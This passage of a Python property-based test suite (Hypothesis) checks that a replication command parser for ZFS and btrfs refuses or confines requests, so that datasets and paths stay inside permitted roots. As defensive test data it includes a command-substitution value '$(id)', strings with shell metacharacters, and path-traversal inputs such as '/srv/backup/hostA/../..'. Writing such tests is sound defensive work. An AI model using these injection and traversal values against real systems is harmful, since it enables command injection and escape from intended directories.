                     f"home@{SNAP}", "home@manual", "$(id)", "a;b", "~"]),
    st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=0x2FF), max_size=4))
# Names a hair's breadth from a root: a longer sibling, a trailing character, the root's parent.
boundary_suffixes = st.sampled_from(["", "B", ".", "-", "_", "/", "//", "/.", "/..", "/../hostAB", "@x", "#x",
                                     "%x", ",x", " ", "\u200b", "\u0301"])
datasets = st.builds(lambda base, edge, parts: "/".join([base + edge, *parts]),
                     st.sampled_from([ZROOT, ZROOT, "backup", "backup/hostAB", "other", "", "-F",
                                      "tank/data", "tank/data", "tank", "tank/dat"]),
                     boundary_suffixes | st.just(""), st.lists(components, max_size=3))
snapshots = st.builds(lambda ds, sep, name: ds + sep + name, datasets, st.sampled_from(["@", "#", "@@", ""]),
                      st.sampled_from([SNAP, "manual", "x,y", "a%b", "-r", ""]) | components)
paths = st.builds(lambda base, edge, parts: "/".join([base + edge, *parts]),
                  st.sampled_from([DROOT, DROOT, "/srv/backup", "/srv/backup/hostAB", "/etc", "",
                                   "//srv/backup/hostA", "/srv/data", "/srv/.snapshots", "/srv/.snapshots",
                                   "/srv/./backup/hostA", "/srv/backup/hostA/../hostA", "/srv/dat", "/srv"]),
                  boundary_suffixes | st.just(""), st.lists(components, max_size=3))
words = st.sampled_from(["-r", "-d", "1", "-p", "-F", "-o", "--", "-s", "-u", "-A", "-i", "-I", "-t", "-R",
                         "name,property,value", "guid,type", "all", "readonly=on", "replicator.j.t", "keep"])
anything = st.one_of(datasets, snapshots, paths, words)


friendly_names = st.sampled_from(["a", "b c", "home", "x.y:z-w"])
friendly_datasets = st.builds(lambda root, parts: "/".join([root, *parts]),
                              st.sampled_from([ZROOT, "tank/data"]), st.lists(friendly_names, max_size=2))
friendly_snapshots = st.builds(lambda ds, name: f"{ds}@{name}", friendly_datasets, st.sampled_from([SNAP, "s"]))
friendly_paths = st.builds(lambda root, parts: "/".join([root, *parts]),
                           st.sampled_from([DROOT, "/srv/data", "/srv/.snapshots"]),
                           st.lists(st.sampled_from(["a", "b c", f"home@{SNAP}", "$(id)"]), max_size=2))


def values_for(arg) -> st.SearchStrategy[str]:
    """Values of the kind `arg` expects, friendly and hostile, or anything at all."""
    friendly, hostile = {
        "DatasetArg": (friendly_datasets, datasets),
        "SnapshotArg": (friendly_snapshots, snapshots),
        "PathArg": (friendly_paths, paths),
        "CountArg": (st.integers(0, 2**63 - 1).map(str),
                     st.sampled_from(["-1", "+5", "1e9", "0x10", "٣", str(2**63), " 1", ""])),
        "DigestArg": (st.binary(min_size=32, max_size=32).map(bytes.hex),
                      st.sampled_from(["ab" * 31, "AB" * 32, "g" * 64, "ab" * 33, "-" + "a" * 63])),
        "BookmarkArg": tuple(s.map(lambda v: v.replace("@", "#", 1)) for s in (friendly_snapshots, snapshots)),
        "PropertiesArg": (st.sampled_from(["guid", "guid,type,userrefs"]),
                          st.sampled_from(["all", "sharenfs", "a,,b", "guid,"])),
        "HoldTagArg": (st.sampled_from(["replicator.j.t", "replicator.pull.job.offsite"]),
                       st.sampled_from(["keep", "-r", "replicator x", "replicator.other.t", "replicator.j",
                                        "replicator.pull.t", "replicator.jj.t"])),
        "ResumeTokenArg": tuple(s.map(lambda v: make_token([("toguid", 1), ("toname", v)]))
                                for s in (friendly_snapshots, snapshots)),
    }[type(arg).__name__]
    if isinstance(arg, PathArg) and arg.spool:
        spool_dirs = st.builds(lambda d: f"{d}/.replicator-spool", friendly_paths | paths)
        friendly = spool_dirs if arg.spool == "dir" else st.builds(
            lambda d, e, p: f"{d}/{e}.from-{p}.stream", spool_dirs,
            st.sampled_from([f"home@{SNAP}", "home@manual", f"a.from-b@{SNAP}"]), st.sampled_from([SNAP, "nothing", "x"]))
    if isinstance(arg, PathArg) and arg.prefix:
        return st.one_of(*(v.map(lambda p: arg.prefix + p) for v in (friendly, hostile)), anything)
    return st.one_of(friendly, hostile, anything)


def shape_argvs(role: Role):
    """argvs in the shape of a vocabulary entry, arguments drawn from hostile and friendly names."""
    def fill(shape):
        rest = st.tuples(*[st.just(p) if isinstance(p, str) else values_for(p) for p in shape.pattern])
        if shape.repeat_last:
            rest = st.tuples(rest, st.lists(values_for(shape.pattern[-1]), max_size=2)).map(
                lambda r: (*r[0], *r[1]))
        return rest.map(lambda r: [*shape.command.split(), *r])
    return st.sampled_from(VOCABULARY[role]).flatmap(fill)


def inside(name: str, roots: tuple[str, ...]) -> bool:
    return any(name == r or name.startswith(r.rstrip("/") + "/") for r in roots)


LITERALS = {"name,property,value", "value", "name,value", "readonly=on", "FSROOT,TARGET,FSTYPE", "bookmark", "send",
            "name,guid,createtxg,creation", "1", "%s", "bs=1M", "status=none", "conv=fsync",
            "conv=notrunc,fsync", "oflag=append"}


def assert_confined(decision: Request, policy: Policy) -> None:
    """An oracle apart from the parser: every name-like argument lies inside a root."""
    assert decision.argv[0] in {"zfs", "btrfs", "test", "findmnt", "mkdir", "df", "stat", "sha256sum", "dd", "rm",
                                "rmdir", "replicator-manifest", "replicator-skip"}
    words = decision.argv[len(decision.command.split()):]
    if decision.command == "replicator-skip":  # a count and a digest, then the btrfs send it runs
        assert words[0].isdigit() and re.fullmatch("[0-9a-f]{64}", words[2]), decision
        words = words[3:]
    for word in words:
        if word.startswith("-") or word in LITERALS:
            continue
        if set(word.split(",")) <= READABLE_PROPERTIES or word.startswith("replicator."):
            continue
        word = word.removeprefix("of=")
        if word.startswith("/"):
            assert ".." not in word.split("/") and inside(word, policy.path_roots), decision
        elif word.startswith("1-"):
            assert inside(decode(word).toname.partition("@")[0], policy.dataset_roots), decision
        else:
            dataset = word.replace("#", "@").partition("@")[0]
            assert inside(dataset, policy.dataset_roots), decision


@settings(max_examples=1500)
@given(st.sampled_from([(RECEIVE, Role.RECEIVE), (SEND, Role.SEND)]).flatmap(
    lambda pr: st.tuples(st.just(pr[0]), shape_argvs(pr[1]))))
def test_accepted_requests_name_nothing_outside_the_roots(case):
    policy, argv = case
    decision = parse_request(shlex.join(argv), policy)
    if isinstance(decision, Request):
        assert_confined(decision, policy)


@settings(max_examples=300)
@given(st.lists(anything, min_size=1, max_size=8), st.sampled_from([RECEIVE, SEND]))
def test_random_argvs_are_refused_or_confined(argv, policy):
    decision = parse_request(shlex.join(argv), policy)
    assert isinstance(decision, (Request, Rejection))
    if isinstance(decision, Request) and not decision.probe:
        assert_confined(decision, policy)


@given(st.text(max_size=300), st.sampled_from([RECEIVE, SEND]))
def test_any_text_gets_a_decision_never_an_exception(text, policy):
    decision = parse_request(text, policy)
    assert isinstance(decision, (Request, Rejection))
    if isinstance(decision, Request) and not decision.probe:
        assert shlex.join(decision.argv[:len(decision.command.split())]) == decision.command
        assert_confined(decision, policy)


link_targets = st.sampled_from(["/etc", "/srv/backup", "/srv/backup/hostAB", DROOT, f"{DROOT}/sub", "/",
                                "/srv/backup/hostA/../.."])


@settings(max_examples=300)
@given(shape_argvs(Role.RECEIVE), st.dictionaries(paths.filter(lambda p: p.startswith("/") and ".." not in p),
                                                 link_targets, max_size=3))
def test_resolved_paths_stay_inside_the_resolved_roots(argv, links):
    assume(all(target != link and not target.startswith(link + "/") for link, target in links.items()))
    realpath = fake_realpath({k.rstrip("/") or "/": v for k, v in links.items() if k.rstrip("/")})
    request = parse_request(shlex.join(argv), RECEIVE)
    if not isinstance(request, Request):
        return
    try:
        decision = confine(request, RECEIVE, realpath)
    except AssertionError:  # a loop in the generated links
        return
    if isinstance(decision, Request):
        roots = tuple(realpath(r) for r in RECEIVE.path_roots)
        for position, arg in decision.paths:
            path = arg.path(decision.argv[position])
            assert inside(path, roots), (decision, links)
            assert ".." not in path.split("/")


WRITES_BELOW = {"zfs create", "zfs set", "zfs receive", "zfs destroy", "zfs rollback", "btrfs subvolume delete"}


@settings(max_examples=1500)
@given(shape_argvs(Role.RECEIVE))
def test_what_changes_a_dataset_or_deletes_a_subvolume_lies_strictly_below_a_root(argv):
    """Around the boundary: a write never names a root itself, its parent or a longer sibling."""
    decision = parse_request(shlex.join(argv), RECEIVE)
    if not isinstance(decision, Request) or decision.command not in WRITES_BELOW:
        return
    for word in decision.argv[len(decision.command.split()):]:
        if word.startswith("-") or word == "readonly=on":
            continue
        name = word.replace("#", "@").partition("@")[0]
        roots = RECEIVE.path_roots if name.startswith("/") else RECEIVE.dataset_roots
        assert any(name.startswith(r + "/") and name != r for r in roots), decision
